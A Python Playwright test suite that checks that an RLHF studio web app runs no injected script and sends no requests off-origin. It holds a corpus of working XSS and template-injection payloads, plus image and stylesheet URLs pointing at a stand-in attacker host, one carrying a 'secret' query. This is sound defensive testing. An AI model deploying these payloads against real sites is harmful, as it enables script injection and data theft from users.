"""Nothing leaves the origin, and nothing that somebody wrote is ever run."""

import threading
from collections.abc import Generator, Iterator, Sequence
from contextlib import closing
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from lora_rlhf.data.records import user
from tests.ui.browser.conftest import Visit
from tests.ui.browser.people import Visitor
from tests.ui.browser.serving import InLine, Served, serve
from ui.asking import Ask, PoolPrompt, Row, Waiting
from ui.ranking import MOST
from ui.studio import Settings

pytestmark = pytest.mark.ui

MARK = "window.__xss = true"
# One for each way that markup, a template or Markdown has been made to run something.
CORPUS = (
    f"<script>{MARK}</script>",
    f"</script><script>{MARK}</script>",
    f"<img src=x onerror='{MARK}'>",
    f"<svg onload='{MARK}'><circle/></svg>",
    f"<details open ontoggle='{MARK}'>x</details>",
    "<iframe srcdoc='<script>parent.__xss = true</script>'></iframe>",
    f"<iframe src='javascript:parent.{MARK}'></iframe>",
    f"[a link](javascript:{MARK.replace(' ', '')})",
    f"![x](x' onerror='{MARK})",
    f"<a href='javascript:{MARK}'>a link</a>",
    f"<form action='javascript:{MARK}'><button>press</button></form>",
    "${(() => { " + MARK + " })()}",
    "{{constructor.constructor('" + MARK + "')()}}",
    "{{#with this}}{{{lookup this 'x'}}}{{/with}}",
    f"`</code><img src=x onerror='{MARK}'>`",
    f"$$\\href{{javascript:{MARK}}}{{x}}$$",
    f"<style>@import 'https://evil.example/a.css';</style><b onmouseover='{MARK}'>b</b>",
    f"\u202e\u0000<scr\u0000ipt>{MARK}</scr\u0000ipt>",
    f"<math><mtext><table><mglyph><style><img src=x onerror='{MARK}'></style></mglyph></table>",
)
ABROAD = (
    "![x](https://evil.example/pixel.png?q=secret) "
    "<img src='http://evil.example/pixel.png'> "
    "<link rel=stylesheet href='https://evil.example/a.css'> "
    "[a link](https://evil.example/) "
    "<video src='https://evil.example/v.mp4' autoplay></video> "
    "<div style='background:url(https://evil.example/b.png)'>b</div>"
)


class Hostile(InLine):
    """Answers with the corpus, the next piece every time, and asks for things abroad."""

    def __init__(self) -> None:
        words = 2 + max(len(f"{piece} {ABROAD}".split()) for piece in CORPUS)
        super().__init__(words=words)
        self.answered: list[str] = []
        pieces = [CORPUS[i % len(CORPUS)] for i in range(len(self._pools["train"]))]
        self._pools["train"] = [
            PoolPrompt(user(f"{piece} {i}"), f"pool:train#{i}") for i, piece in enumerate(pieces)
        ]

    def stream(
        self,
        asks: Sequence[Ask],
        *,
        who: str,
        cancel: threading.Event,
        background: bool = False,
    ) -> Generator[Waiting | list[Row], None, None]:
        """As the fake, six words at a time: pieces are shown in halves, too."""
        streamed = super().stream(asks, who=who, cancel=cancel, background=background)
        with closing(streamed):
            for number, told in enumerate(streamed):
                if isinstance(told, Waiting) or number % 6 == 0 or told[0].finish:
                    yield told

    def answer(self, ask: Ask) -> str:
        """As `FakeEngine.answer`, but another one every time: no answer is left out by chance."""
        number = len(self.answered)
        self.answered.append(f"{CORPUS[number % len(CORPUS)]} {ABROAD} {number}")
        return self.answered[-1]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """An app whose adapters are hostile."""
    # As many answers at once as there can be, and none that was shown before.
    asking = Settings(answers=MOST, overlap=0.0, repeats=0.0)
    with serve(Hostile(), tmp_path_factory.mktemp("hostile"), asking=asking) as served:
        yield served


def assert_untouched(me: Visitor) -> None:
    assert me.page.evaluate("window.__xss") is None
    assert me.heard.dialogs == []


def stays_home(me: Visitor) -> None:
    """Every request that was let out went to the server the page came from."""
    home = urlsplit(me.served.url).netloc
    out = [r for r in me.heard.requests if r not in me.heard.blocked]
    abroad = [r for r in out if urlsplit(r).scheme in ("http", "https", "ws", "wss")]
    assert {urlsplit(r).netloc for r in abroad} == {home}


def look_at_everything(me: Visitor) -> None:
    """Hover and move through a tab, so that what waits for it would run."""
    me.page.mouse.move(300, 300)
    me.page.mouse.move(500, 420)
    me.page.wait_for_timeout(250)


def pieces_in(*texts: str) -> set[str]:
    """Those of the corpus that stand in texts; no browser lets anybody type a NUL."""
    together = "\n".join(texts).replace("\u0000", "")
    return {piece for piece in CORPUS if piece.replace("\u0000", "") in together}


def chat_all(me: Visitor) -> None:
    """Every piece as a message and as an answer, in dialogues of a few turns."""
    before = len(me.served.engine.answered)
    for number, piece in enumerate(CORPUS):
        if number and number % 5 == 0:
            look_at_everything(me)
            me.new_dialogue()
        me.chat(piece.replace("\u0000", ""))
    assert pieces_in(*me.served.engine.answered[before:]) == set(CORPUS)


def compare_all(me: Visitor) -> None:
    """Two pieces in a prompt, and one in each of two answers, until there was all."""
    me.tab("Compare")
    for first in range(0, len(CORPUS), 2):
        prompt = "\n\n".join(CORPUS[first : first + 2]).replace("\u0000", "")
        me.at("#cmp-box textarea").fill(prompt)
        me.at("#cmp-next").click()
        expect(me.at("#cmp-a")).to_be_enabled()
        me.at("#cmp-a").click()
        expect(me.at("#cmp-status")).to_contain_text("Saved")
    tasks = [j.task for j in me.votes if j.task.mode == "pair"]
    assert pieces_in(*(t.prompt[0]["content"] for t in tasks)) == set(CORPUS)
    assert pieces_in(*(r.text for t in tasks for r in t.responses)) == set(CORPUS)


def rank_all(me: Visitor) -> None:
    """Until every piece was an answer; prompts are pieces, too."""
    me.tab("Rank")
    shown: set[str] = set()
    tasks = 0
    while shown != set(CORPUS):
        tasks += 1
        assert tasks <= 8, f"never shown: {set(CORPUS) - shown}"
        task = me.wait_for_ranking()
        count = me.at(".rk-card").count()
        assert count == len(task.responses)
        shown |= pieces_in(*(r.text for r in task.responses))
        me.press(*"abcdefghi"[: count - 1], "Enter")
        expect(me.at(".rk-status")).to_contain_text("Saved")


def test_prompts_and_answers_run_nothing_in_any_tab(visit: Visit, hostile: Served) -> None:
    me = visit(hostile)
    # What the policy held back is told in the console, and meant to be.
    me.heard.expected += ["Content Security Policy", "violates", "ERR_BLOCKED", "Failed to load"]
    for show_all in (chat_all, compare_all, rank_all):
        show_all(me)
        look_at_everything(me)
        assert_untouched(me)
    for tab in ("Votes", "Retrain", "Runs", "Chat"):
        me.tab(tab)
        look_at_everything(me)
    assert_untouched(me)
    stays_home(me)
    me.page.evaluate("window.__violations = []")  # the blocked pictures


def test_the_check_would_see_what_ran(visit: Visit, hostile: Served) -> None:
    """The same corpus in a page without protection runs: else the test above proves nothing."""
    me = visit(hostile)
    bare = me.context.new_page()
    bare.set_content("".join(CORPUS[:3]))
    bare.wait_for_timeout(200)
    assert bare.evaluate("window.__xss") is True
    bare.close()
    me.heard.expected += ["net::ERR", "Failed to load"]


def test_a_runs_own_files_run_nothing(visit: Visit, hostile: Served, tmp_path: Path) -> None:
    import json

    run = hostile.studio.runs_dir / "evil"
    (run / "ppo").mkdir(parents=True, exist_ok=True)
    (run / "recipe.yaml").write_text(f'name: "evil"\nbase: {{model: "{CORPUS[2]}"}}\n')
    (run / "status.json").write_text(json.dumps({"state": CORPUS[2], "stage": CORPUS[0]}))
    (run / "summary.json").write_text(json.dumps({"seconds": {CORPUS[2]: 1}}))
    lines = [{"step": 1, "prompt": p, "response": p, "score": 1.0} for p in CORPUS]
    (run / "ppo" / "samples.jsonl").write_text("\n".join(map(json.dumps, lines)) + "\n")
    (run / "ppo" / "metrics.jsonl").write_text(json.dumps({"step": 1, CORPUS[2]: 1.0}) + "\n")
    (run / "report.html").write_text(f"<script>parent.{MARK}; {MARK}</script><p>{CORPUS[2]}</p>")
    me = visit(hostile, tab="Runs")
    me.heard.expected += ["Content Security Policy", "violates", "ERR_BLOCKED", "Failed to load"]
    me.heard.expected += ["Blocked script execution"]  # the report's frame may run nothing
    expect(me.at("#runs-list")).to_contain_text("evil")
    me.at("#runs-list").get_by_text("evil").first.click()
    for part in ("Results", "Answers", "Report", "Curves"):
        me.page.get_by_role("tab", name=part, exact=True).click()
        look_at_everything(me)
    assert_untouched(me)
    stays_home(me)
    me.page.evaluate("window.__violations = []")


def test_a_tour_of_the_app_leaves_the_origin_alone_and_breaks_no_policy(
    visit: Visit, fake: Served
) -> None:
    """In normal use there is nothing to block, and the console stays silent (`visit` checks)."""
    me = visit(fake)
    me.chat("Hello.")
    me.tab("Compare")
    me.ask_both("Which one?")
    me.press("1")
    me.tab("Rank")
    me.wait_for_ranking()
    for tab in ("Votes", "Retrain", "Runs"):
        me.tab(tab)
        look_at_everything(me)
    assert me.heard.blocked == []
    stays_home(me)
